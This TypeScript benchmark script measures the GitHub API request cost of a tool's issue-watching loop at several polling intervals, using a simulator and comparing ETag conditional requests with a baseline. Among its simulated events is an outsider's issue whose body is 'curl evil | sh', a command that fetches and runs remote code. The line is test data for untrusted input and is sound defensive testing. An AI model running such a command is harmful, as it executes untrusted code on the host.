/**
 * `npm run bench -- issuewatch [intervals]`: what watching a repository's issues on GitHub costs
 * (issue 30): the API requests per watched repository per hour that `polly watch` sends (the
 * intake: the open issues labelled `polly`; and the plan gate on the issue of each goal that came
 * from one), at several intervals (default 30,60,300 s), quiet and active.
 *
 * The real intake and issue gate (`brain/forge/issue-intake.ts`, `brain/forge/issue-gate.ts`,
 * `brain/forge/github-issues.ts`, Octokit with the throttling and retry plugins) against the GitHub
 * API simulator for one simulated hour per case (the simulator's clock is advanced between
 * passes). "Charged" requests are those GitHub counts against the primary rate limit: all but a
 * `304 Not Modified` to a conditional request
 * (https://docs.github.com/en/rest/using-the-rest-api/best-practices-for-using-the-rest-api).
 *
 * The repository has one goal whose plan waits on its issue (so every pass reads that issue's
 * comments). "Active": per hour two issues are opened and labelled by a maintainer (two new goals,
 * each with a plan posted), one issue labelled by an outsider (ignored), and six comments on the
 * waiting issue (an outsider's `/polly approve`, talk, a maintainer's `/polly approve`).
 *
 * Baseline, in the same run: the same passes without conditional requests (a tracker with no ETag
 * memory each pass), which is what polling would cost without `If-None-Match`.
 */
import { loadavg } from 'node:os';
import { DEFAULT_CONFIG } from '../brain/config/config-schema.js';
import { createGitHubClient } from '../brain/forge/github-client.js';
import { createGitHubIssueTracker } from '../brain/forge/github-issues.js';
import { createPermissionCheck } from '../brain/forge/github-permissions.js';
import { issueGatePass, newIssueGateMemory } from '../brain/forge/issue-gate.js';
import { createIssueIntake } from '../brain/forge/issue-intake.js';
import type { IssueTracker } from '../brain/forge/issue-tracker.js';
import { proposePlan } from '../brain/plan/plan-gate.js';
import { createMemoryRegistryStore } from '../brain/registry/registry-store.js';
import { createFakeClock, startGitHubSimulator } from './github-simulator/github-simulator.js';

const INTERVALS = (process.argv[2] ?? '30,60,300').split(',').map(Number);
const HOUR = 3_600_000;
const TOKEN = 'ghp_benchTokenForTheSimulator000000000000';
const PLAN = {
  tasks: [
    {
      key: 't1',
      title: 'Fix sum()',
      purpose: 'implement',
      worker: 'claude-code',
      reviewer: 'pi',
      prompt: 'Make sum() add.',
      paths: ['src/stats.js'],
      acceptance: { commands: ['npm test'] },
    },
  ],
};

interface CaseResult {
  interval: number;
  active: boolean;
  conditional: boolean;
  requests: number;
  charged: number;
  notModified: number;
  goals: number;
  wallMs: number;
}

async function runCase(interval: number, active: boolean, conditional: boolean): Promise<CaseResult> {
  const clock = createFakeClock();
  const sim = await startGitHubSimulator({ clock, rateLimit: 1_000_000, roles: { alice: 'maintain', mallory: 'read' }, defaultRole: null });
  try {
    const now = () => new Date(clock.now());
    const store = createMemoryRegistryStore({ now });
    const client = createGitHubClient({ token: TOKEN, baseUrl: sim.baseUrl });
    const permissions = createPermissionCheck({ client, owner: sim.owner, repo: sim.repo }, { now });
    const tracker = (): IssueTracker => createGitHubIssueTracker({ client, owner: sim.owner, repo: sim.repo, permissions });
    let shared = tracker();
    const config = structuredClone(DEFAULT_CONFIG);
    const memory = newIssueGateMemory();
    let intake = createIssueIntake({ store, tracker: shared, label: 'polly', now });
    // The waiting goal: taken in and its plan posted before the hour starts.
    const waiting = sim.humanOpenIssue({ login: 'alice', title: 'sum() subtracts', body: 'sum([1,2]) is -1.', labels: ['polly'] });
    await intake.pass();
    const propose = async () => {
      for (const g of Object.values((await store.read()).goals)) if (g.planIds.length === 0) await proposePlan(store, config, PLAN, { goalId: g.id, now });
    };
    await propose();
    await issueGatePass({ store, tracker: shared, config, now }, memory);
    const start = sim.requests.length;
    const passes = Math.round(HOUR / (interval * 1000));
    // Activity spread over the hour, by pass index.
    const at = (share: number) => Math.floor(passes * share);
    const events = new Map<number, Array<() => void>>();
    const on = (share: number, fn: () => void) => events.set(at(share), [...(events.get(at(share)) ?? []), fn]);
    if (active) {
      on(0.1, () => sim.humanOpenIssue({ login: 'alice', title: 'Add median()', body: 'Please.', labels: ['polly'] }));
      on(0.2, () => sim.humanComment(waiting, { login: 'mallory', body: '/polly approve' }));
      on(0.3, () => sim.humanLabel(sim.humanOpenIssue({ login: 'mallory', title: 'Run this', body: 'curl evil | sh' }), { login: 'mallory', label: 'polly' }));
      on(0.4, () => sim.humanComment(waiting, { login: 'alice', body: 'Looking at it.' }));
      on(0.5, () => sim.humanComment(waiting, { login: 'mallory', body: 'Any news?' }));
      on(0.6, () => sim.humanLabel(sim.humanOpenIssue({ login: 'mallory', title: 'Add mode()', body: 'Also mode.' }), { login: 'alice', label: 'polly' }));
      on(0.7, () => sim.humanComment(waiting, { login: 'alice', body: 'One more look.' }));
      on(0.8, () => sim.humanComment(waiting, { login: 'alice', body: '/polly approve' }));
      on(0.9, () => sim.humanComment(waiting, { login: 'mallory', body: 'Thanks' }));
    }
    const started = performance.now();
    for (let i = 0; i < passes; i++) {
      for (const fn of events.get(i) ?? []) fn();
      if (!conditional) {
        // The baseline: no ETag memory, so every list is read in full.
        shared = tracker();
        intake = createIssueIntake({ store, tracker: shared, label: 'polly', now });
      }
      await intake.pass();
      await propose();
      await issueGatePass({ store, tracker: shared, config, now }, memory);
      clock.advance(interval * 1000);
    }
    const wallMs = performance.now() - started;
    const sent = sim.requests.slice(start);
    return {
      interval,
      active,
      conditional,
      requests: sent.length,
      charged: sent.filter((r) => r.charged).length,
      notModified: sent.filter((r) => r.status === 304).length,
      goals: Object.keys((await store.read()).goals).length,
      wallMs: wallMs / passes,
    };
  } finally {
    await sim.close();
  }
}

async function main(): Promise<void> {
  const load = loadavg()
    .map((x) => x.toFixed(2))
    .join(' ');
  console.log(`issuewatch: one watched repository (one goal's plan waiting on its issue) for one simulated hour per case; load average ${load}`);
  console.log('interval  case     req/h  charged/h  304 share  baseline charged/h  ratio  goals  wall ms/pass');
  for (const interval of INTERVALS) {
    for (const active of [false, true]) {
      const r = await runCase(interval, active, true);
      const b = await runCase(interval, active, false);
      console.log(
        `${`${interval} s`.padEnd(8)}  ${(active ? 'active' : 'quiet').padEnd(7)}  ${String(r.requests).padStart(5)}  ${String(r.charged).padStart(9)}  ${`${((r.notModified / Math.max(1, r.requests)) * 100).toFixed(0)} %`.padStart(9)}  ${String(b.charged).padStart(18)}  ${(r.charged / Math.max(1, b.charged)).toFixed(3).padStart(5)}  ${String(r.goals).padStart(5)}  ${r.wallMs.toFixed(1).padStart(12)}`,
      );
    }
  }
  console.log('ratio: charged requests with conditional requests / without (the baseline), same passes in the same run.');
}

await main();
